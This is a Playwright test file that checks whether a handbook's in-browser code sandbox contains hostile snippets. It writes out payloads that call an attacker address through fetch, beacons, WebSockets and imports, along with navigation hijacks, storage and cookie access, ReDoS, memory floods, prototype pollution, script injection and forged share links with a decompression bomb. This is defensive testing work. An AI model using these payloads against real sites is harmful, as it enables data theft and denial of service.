import { expect, ids, test, type Block, type Page } from '../support/block-test.ts';
import { startCountingServer, type CountingServer } from './support/counting-server.ts';

/* The list of attacks on pages with two and with ten blocks, which share one frame and one compiler. */
test.use({
  expectedErrors: [
    /Content Security Policy|frame is sandboxed|left the site: \w+ http:\/\/127|WebSocket/,
  ],
});

let attacker: CountingServer;
test.beforeAll(async () => {
  attacker = await startCountingServer();
});
test.afterAll(() => attacker.close());
test.beforeEach(() => void attacker.hits.splice(0));

/** Ten programs that together try the whole list; `t` is the attacker's address. */
const attacks: Record<string, (t: string) => string> = {
  requests: (t) =>
    `const tries = [() => fetch('${t}/fetch'), () => navigator.sendBeacon('${t}/beacon', 'x'), () => new EventSource('${t}/events'), () => new WebSocket('${t}'.replace('http', 'ws')), () => { const x = new XMLHttpRequest(); x.open('GET', '${t}/xhr', false); x.send(); }]; for (const attempt of tries) { try { await attempt(); } catch {} }`,
  imports: (t) =>
    `for (const code of ["import('${t}/module')", "importScripts('${t}/script')", "new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1' }] })"]) { try { await (0, eval)(code); } catch {} }`,
  navigation: (t) =>
    `for (const code of ["top.location = '${t}/top'", "parent.location = '${t}/parent'", "location.href = '${t}/self'", "open('${t}/open')"]) { try { (0, eval)(code); } catch {} }`,
  storage: () =>
    `for (const code of ['localStorage.clear()', 'document.cookie', 'parent.document.title = 1', 'top.document.body.remove()', "indexedDB.open('x')"]) { try { (0, eval)(code); console.log('REACHED', code); } catch {} }`,
  'an endless loop': () => 'while (true) {}',
  recursion: () => 'const f = (): number => f() + 1; f();',
  'a regular expression': () => "/^(a+)+$/.test('a'.repeat(40) + '!');",
  memory: () => "let s = 'x'.repeat(1e6); const a = []; while (true) a.push((s += s).length);",
  'a flood': () => "for (let i = 0; i < 1e6; i++) console.log(i); console.log('x'.repeat(50e6));",
  'drawings and pollution': (t) =>
    `(Object.prototype as any).type = 'done'; Array.prototype.push = () => { throw 1; }; const { show } = await import('live-code:host'); for (let i = 0; i < 100; i++) show('<img src="${t}/drawn' + i + '" onerror="fetch(1)"><script>fetch("${t}")</scr' + 'ipt><meta http-equiv="refresh" content="0;url=${t}/refresh">'); show(new OffscreenCanvas(2000, 2000), '<b onmouseover=1>');`,
};

/*
 * Started by the keyboard: the output of a block above may grow between a mouse's down and its up,
 * and then there is no click.
 */
const run = (block: Block): Promise<void> => block.editor.press('ControlOrMeta+Enter');

/** What must hold after any attack: nobody was reached, the page lives, the code is kept. */
async function unharmed(block: Block, code: string): Promise<void> {
  expect(attacker.hits).toEqual([]);
  await expect(block.page.locator('h1')).toHaveText('Ten blocks');
  expect(await block.page.evaluate(() => localStorage.getItem('kept'))).toBe('yes');
  await expect(block.live).not.toContainText('REACHED');
  await expect(block.root).toHaveAttribute('data-state', /^(done|error|stopped)$/);
  // What Copy would take is the code as it stands.
  await expect(block.root).toHaveAttribute('data-code', code);
}

for (const [name, attack] of Object.entries(attacks)) {
  test(`two blocks: ${name} in one, and the other is not disturbed`, async ({ page, open }) => {
    const at = await open('handbook/traps/ten/');
    await page.evaluate(() => localStorage.setItem('kept', 'yes'));
    const [hostile, honest] = [at('ten/0'), at('ten/1')];
    const code = attack(attacker.origin);
    await hostile.write(code);
    await honest.write('await new Promise((r) => setTimeout(r, 300)); console.log([0.5, -0]);');
    await run(hostile);
    await run(honest);
    await honest.state('done', 'error', 'stopped');
    await expect(honest.live).toHaveText('[0.5, -0]');
    await hostile.state('done', 'error', 'stopped');
    await page.waitForTimeout(200);
    await unharmed(hostile, code);
    await hostile.write("console.log('again');");
    await hostile.runAndWait();
    await expect(hostile.live).toHaveText('again');
  });
}

test('ten blocks: all attacks at once, and every block works afterwards', async ({
  page,
  open,
}) => {
  test.setTimeout(150_000);
  const at = await open('handbook/traps/ten/');
  await page.evaluate(() => localStorage.setItem('kept', 'yes'));
  const codes = Object.values(attacks).map((attack) => attack(attacker.origin));
  const blocks = codes.map((_, i) => at(`ten/${i}`));
  for (const [i, block] of blocks.entries()) await block.write(codes[i]!);
  for (const block of blocks) await run(block);
  for (const block of blocks) await block.state('done', 'error', 'stopped');
  await page.waitForTimeout(300);
  for (const [i, block] of blocks.entries()) await unharmed(block, codes[i]!);
  for (const [i, block] of blocks.entries()) {
    await block.write(`console.log('again ${i}');`);
    await block.runAndWait();
    await expect(block.live).toHaveText(`again ${i}`);
  }
});

/** Follows a link as Share makes it, with files of the attacker's choice. */
function follow(page: Page, id: string, files: string): Promise<void> {
  return page.evaluate(
    async ([id, files]) => {
      const text = files.replace('BOMB', 'x'.repeat(3_000_000));
      const stream = new Blob([text]).stream().pipeThrough(new CompressionStream('deflate-raw'));
      const bytes = new Uint8Array(await new Response(stream).arrayBuffer());
      const packed = btoa(Array.from(bytes, (byte) => String.fromCharCode(byte)).join(''));
      const safe = packed.replaceAll('+', '-').replaceAll('/', '_');
      location.hash = `code=${encodeURIComponent(id)}~${safe}`;
    },
    [id, files] as const,
  );
}

const links: [name: string, id: string, files: string][] = [
  ['hidden files', ids.checked, '{"/judge.ts":"console.log(\'forged\')"}'],
  ['read-only files', ids.several, '{"/rate.ts":"export const RATE = 7;"}'],
  ['files that do not exist', ids.short, '{"/other.ts":"1","__proto__":{"x":1}}'],
  ['more than a snippet holds', ids.short, '{"/index.ts":"BOMB"}'],
  ['no files at all', ids.short, '[[[[]]]]'],
];

for (const [name, id, files] of links) {
  test(`a link with ${name} changes nothing`, async ({ page, open }) => {
    const block = (await open())(id);
    await follow(page, id, files);
    await expect(block.note).toContainText('could not be read');
    await block.runAndWait();
    await expect(block.live).not.toContainText('forged');
    const shown = await block.root.getAttribute('data-code');
    expect(shown ?? '').not.toMatch(/forged|RATE = 7|xxxx/);
  });
}
